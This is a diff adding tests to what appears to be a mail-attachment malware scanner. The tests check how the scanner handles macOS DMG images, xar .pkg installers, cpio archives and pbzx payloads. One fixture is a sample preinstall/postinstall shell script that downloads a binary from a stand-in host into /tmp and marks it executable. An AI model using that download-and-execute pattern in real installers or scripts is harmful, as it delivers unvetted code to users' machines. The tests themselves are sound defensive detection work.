@@ -7,12 +7,24 @@ from pathlib import Path
 
 import pytest
 
-from coinguard.findings import Finding, Item
+from coinguard.findings import Finding, Item, VerdictKind
 from coinguard.scan import ScanContext, scan_message
 from coinguard.sniff import sniff
 from coinguard.unpack.common import sevenzip_program
 from coinguard.unpack.disk_image import DiskImage
-from unpack.builders import LNK, fat12_image, fixed_vhd, iso_image, sevenzip_archive, zip_archive
+from unpack.builders import (
+    LNK,
+    cpio_odc,
+    fat12_image,
+    fixed_vhd,
+    gzip_bytes,
+    iso_image,
+    pbzx,
+    sevenzip_archive,
+    udif_image,
+    xar_archive,
+    zip_archive,
+)
 
 from helpers import DATA, make_context, make_message, need_corpus
 
@@ -94,3 +106,123 @@ def test_corpus_iso() -> None:
     findings, items = run(data, "test.iso")
     assert [f.code for f in findings] == ["container.disk_image"]
     assert [i.path for i in items] == ["test.iso/lorem.txt"]
+
+
+# -- macOS: UDIF disk images, xar installer packages and the cpio archives inside them ----------------------
+#: A Mach-O header (64-bit, little-endian magic) padded: enough for sniff to call it ``macho``.
+MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(248)
+INSTALL_SCRIPT = b"#!/bin/sh\ncurl -fsSL https://update.example.invalid/agent -o /tmp/agent && chmod +x /tmp/agent\n"
+
+
+@needs_7zip
+def test_dmg_is_opened_down_to_its_file_system(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    data = udif_image(fat12_image({"README.TXT": b"drag the app to Applications", "LEDGER": MACHO}))
+    assert sniff(data) == "dmg"
+    findings, items = run(data, "LedgerLive.dmg")
+    # the macOS analyzer reports the image itself (macos.disk_image); this unpacker reports what runs inside
+    assert [f.code for f in findings] == ["container.disk_image_executable"]
+    assert {(i.path, i.type) for i in items} == {
+        ("LedgerLive.dmg/README.TXT", "text"), ("LedgerLive.dmg/LEDGER", "macho")}
+    assert next(i for i in items if i.type == "macho").data == MACHO
+    assert list(tmp_path.iterdir()) == []
+
+
+@needs_7zip
+def test_dmg_with_a_mach_o_is_malicious_through_scan_message() -> None:
+    dmg = udif_image(fat12_image({"INSTALL": MACHO}))
+    verdict = scan_message(make_message(attachments=[("Wallet.dmg", dmg)]), ScanContext())
+    assert verdict.verdict is VerdictKind.MALICIOUS
+    assert verdict.strengths()["file.executable"] == "conclusive"
+    assert "macos.disk_image" in verdict.strengths()
+    assert any(f.code == "file.executable" and f.path == "Wallet.dmg/INSTALL" for f in verdict.findings)
+
+
+@needs_7zip
+def test_damaged_dmg_is_a_parse_error() -> None:
+    data = bytearray(udif_image(fat12_image({"A.TXT": b"a"})))
+    data[: len(data) - 1024] = bytes(len(data) - 1024)  # data fork and plist gone, trailer kept
+    assert sniff(bytes(data)) == "dmg"
+    findings, items = run(bytes(data), "broken.dmg")
+    assert [f.code for f in findings] == ["archive.parse_error"]
+    assert items == []
+
+
+@needs_7zip
+def test_dmg_whose_file_system_cannot_be_opened_is_not_called_read() -> None:
+    findings, items = run(udif_image(bytes(64 * 1024)), "blank.dmg")  # a partition, but no file system in it
+    assert [f.code for f in findings] == ["archive.unreadable"]
+    assert "0.DOS_FAT_12" in findings[0].detail
+    assert [i.name for i in items] == ["0.DOS_FAT_12"]  # still scanned as the bytes it is
+
+
+@needs_7zip
+def test_pkg_members_and_the_cpio_inside_are_read() -> None:
+    scripts = cpio_odc({"./preinstall": INSTALL_SCRIPT})
+    assert sniff(scripts) == "cpio"
+    pkg = xar_archive({"Distribution": b"<installer-gui-script minSpecVersion='1'/>", "Scripts": gzip_bytes(scripts)})
+    assert sniff(pkg) == "xar"
+    findings, items = run(pkg, "Update.pkg")
+    assert findings == []
+    assert {(i.path, i.type) for i in items} >= {("Update.pkg/Distribution", "text"), ("Update.pkg/Scripts", "gzip")}
+    findings, items = run(scripts, "Scripts")
+    assert findings == []
+    assert [(i.path, i.type, i.data) for i in items] == [("Scripts/preinstall", "script.sh", INSTALL_SCRIPT)]
+
+
+@needs_7zip
+def test_pkg_payload_app_bundle_is_found_through_scan_message() -> None:
+    payload = cpio_odc({"./Applications/Wallet.app/Contents/MacOS/Wallet": MACHO,
+                        "./Applications/Wallet.app/Contents/Info.plist": b"<plist version='1.0'><dict/></plist>"})
+    pkg = xar_archive({"Distribution": b"<installer-gui-script/>", "Payload": gzip_bytes(payload),
+                       "Scripts": gzip_bytes(cpio_odc({"postinstall": INSTALL_SCRIPT}))})
+    verdict = scan_message(make_message(attachments=[("WalletSetup.pkg", pkg)]), ScanContext())
+    assert verdict.verdict is VerdictKind.MALICIOUS
+    strengths = verdict.strengths()
+    assert strengths["macos.package"] == "strong"
+    assert strengths["macos.app_bundle"] == strengths["file.executable"] == "conclusive"
+    assert strengths["macos.install_script_behavior"] == "conclusive"  # the postinstall, once unpacked
+    types = {a.path: a.type for a in verdict.attachments}
+    assert types["WalletSetup.pkg/Payload"] == "gzip"
+    app = [p for p, t in types.items() if p.endswith("Wallet.app/Contents/MacOS/Wallet")]
+    assert len(app) == 1 and types[app[0]] == "macho"
+    assert any(p.endswith("/postinstall") and t == "script.sh" for p, t in types.items())
+
+
+@needs_7zip
+def test_benign_pkg_and_dmg_are_not_malicious() -> None:
+    pkg = xar_archive({"Distribution": b"<installer-gui-script/>",
+                       "Payload": gzip_bytes(cpio_odc({"./Library/Fonts/readme.txt": b"fonts for the office"}))})
+    dmg = udif_image(fat12_image({"PHOTO.TXT": b"holiday photos list"}))
+    for name, data in (("fonts.pkg", pkg), ("photos.dmg", dmg)):
+        verdict = scan_message(make_message(attachments=[(name, data)]), ScanContext())
+        assert verdict.verdict is not VerdictKind.MALICIOUS, (name, verdict.basis)
+        assert "conclusive" not in verdict.strengths().values()
+
+
+@needs_7zip
+def test_pkg_payload_in_pbzx_is_decoded_to_its_cpio() -> None:
+    payload = cpio_odc({"./Applications/Wallet.app/Contents/MacOS/Wallet": MACHO, "./readme.txt": b"x" * 100_000})
+    pkg = xar_archive({"Distribution": b"<installer-gui-script/>", "Payload": pbzx(payload)})
+    findings, items = run(pkg, "Wallet.pkg")
+    assert findings == []
+    decoded = next(i for i in items if i.name == "Payload")
+    assert decoded.type == "cpio" and decoded.data == payload
+    verdict = scan_message(make_message(attachments=[("Wallet.pkg", pkg)]), ScanContext())
+    assert verdict.strengths()["macos.app_bundle"] == "conclusive"
+
+
+@needs_7zip
+def test_broken_pbzx_payload_is_a_parse_error_and_still_scanned() -> None:
+    broken = pbzx(cpio_odc({"./a": b"a" * 5000}))[:-20]
+    findings, items = run(xar_archive({"Payload": broken}), "b.pkg")
+    assert [f.code for f in findings] == ["archive.parse_error"]
+    assert "pbzx" in findings[0].detail
+    assert next(i for i in items if i.name == "Payload").data == broken
+
+
+@needs_7zip
+def test_pbzx_bomb_is_stopped() -> None:
+    findings, items = run(xar_archive({"Payload": pbzx(bytes(8 << 20), chunk=1 << 20)}), "bomb.pkg")
+    assert [f.code for f in findings] == ["container.bomb"]
+    assert next(i for i in items if i.name == "Payload").data.startswith(b"pbzx")  # left as it came
